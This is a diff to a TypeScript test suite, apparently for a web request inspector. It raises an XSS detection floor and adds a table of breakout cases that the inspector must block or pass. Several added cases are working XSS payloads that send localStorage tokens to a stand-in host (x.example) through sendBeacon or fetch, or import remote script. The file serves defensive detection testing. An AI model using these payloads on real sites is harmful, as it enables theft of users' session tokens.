@@ -14,13 +14,16 @@ import { hitRate } from "../support/variants/rate.js";
 const SEED = 20261128;
 
 /**
- * Floors per kind (hits of 400 at SEED, measured 2026-11-29, minus a margin). Below 100%: XSS whose
- * script needs no call and names no sink (`location=name`, `import('//x')`, `navigator.sendBeacon`, an
- * AngularJS `ng-focus` on `$event.view`), and `col LIMIT 1` sent in a header (a probe with no payload; it is
- * a clause only in a parameter named as a sort key, grouping or page size, and prose elsewhere: speed limit 50).
+ * Floors per kind (hits of 400 at SEED, measured 2026-11-29, minus a margin). Below 100%: XSS that
+ * clobbers a global only one page reads (`<a id=CONFIG><a id=scriptSrc name=src href=//x/evil.js>`: an
+ * anchor with an id and a link, as ordinary markup has; rule 3023 takes the id repeated with a name),
+ * and `col LIMIT 1` sent in a header (a probe with no payload; it is a clause only in a parameter named as
+ * a sort key, grouping or page size, and prose elsewhere: speed limit 50). (xss was 0.95 while a call or an
+ * assignment after a closed object (`"};import('//x')//`, `"};location=name;//`) or in a template
+ * literal (`${location=name}`, `${navigator.sendBeacon(...)}`) went unread: probe-seeds 69/4000 -> 5.)
  */
 const FLOORS: Record<InjectKind, number> = {
-  xss: 0.95, "sqli-numeric": 1, "sqli-clause": 0.95, "sqli-oob": 1, "sqli-json": 0.99, "sqli-syntax": 1, "sqli-second": 1,
+  xss: 0.99, "sqli-numeric": 1, "sqli-clause": 0.95, "sqli-oob": 1, "sqli-json": 0.99, "sqli-syntax": 1, "sqli-second": 1,
 };
 
 describeFamily("injection adapted to its context", {
@@ -106,13 +109,37 @@ describeFamily("injection adapted to its context", {
     ["a function list in prose", "use apply(alert, confirm) carefully", false],
     ["braces around a template", "Hello {{ user.name }}, see {alert} docs", false],
   ];
-  describe("xss: sinks passed on as values, JSON closed before script", () => {
-    for (const [what, v, attack] of xssTable) {
+  // xss/breakouts.ts scanAssignmentBreakout: the object or call closed with the string, `${` as an
+  // opener, and a call of any name in a value that ends as a breakout ends
+  const breakoutTable: [string, string, boolean][] = [
+    ["a global assigned after a JSON object closed", "\"};location=name;//", true],
+    ["... after an array and a call closed", "']);location.hash=name//", true],
+    ["a global assigned in a template literal's expression", "${location=name}", true],
+    ["a dotted member assigned in a template literal", "${location.href=name}", true],
+    ["a dynamic import after a JSON object closed", "\"};import('//x.example/m.js');//", true],
+    ["a beacon sent between two operators", "'-navigator.sendBeacon('//x.example',localStorage.token)-'", true],
+    ["... after an array and a call closed", "\"]);navigator.sendBeacon('//x.example',localStorage.token);//", true],
+    ["a beacon sent in a template literal", "${navigator.sendBeacon('//x.example',localStorage.token)}", true],
+    ["a page global fetched in a template literal", "${fetch('//x.example/?'+localStorage.token)}", true],
+    ["a quoted phrase, then a call in prose", "\"hello\" - see(1) -'", false],
+    ["a JS snippet concatenating strings", "var s = \"a\" + b.c(d) + \"e\";", false],
+    ["a Terraform interpolation calling a function", "${format(\"%s-%s\", var.env, var.name)}", false],
+    ["a Groovy template calling a method", "${params.branch.trim()}", false],
+    ["a shell default expansion", "${HOME=/tmp}", false],
+    ["a CSV line with a call in a cell", "\"name\";total(3);\"x\"", false],
+    ["a JSON fragment with a dotted key", "{\"a\":\"b\"};c.d=1", false],
+    ["a quoted remark and a function in a sentence", "\"fixed\", then call init() again", false],
+  ];
+
+  const xssCases = (table: [string, string, boolean][]) => () => {
+    for (const [what, v, attack] of table) {
       it(`${attack ? "blocks" : "passes"} ${what}: ${JSON.stringify(v)}`, () => {
         const req = { path: `/p?q=${encodeURIComponent(v)}`, headers: [["host", "a"]] as [string, string][] };
         if (attack) expect(inspect(h(), req).score).toBeGreaterThanOrEqual(5);
         else expect(inspect(h(), req).score).toBeLessThan(5);
       });
     }
-  });
+  };
+  describe("xss: sinks passed on as values, JSON closed before script", xssCases(xssTable));
+  describe("xss: a call or an assignment after a closed object, an array or a call, or in a template literal", xssCases(breakoutTable));
 });
